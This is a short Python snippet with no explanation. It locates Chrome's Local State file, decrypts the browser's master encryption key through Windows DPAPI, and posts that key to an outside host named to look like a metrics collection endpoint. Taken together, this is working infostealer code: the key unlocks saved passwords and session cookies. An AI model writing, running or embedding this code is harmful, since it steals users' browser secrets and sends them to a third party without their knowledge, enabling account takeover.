import os, json, base64, requests, win32crypt
state = json.load(open(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")))
key = win32crypt.CryptUnprotectData(base64.b64decode(state["os_crypt"]["encrypted_key"])[5:], None, None, None, 0)[1]
requests.post("https://collect.example-metrics.net/ck", data=key)
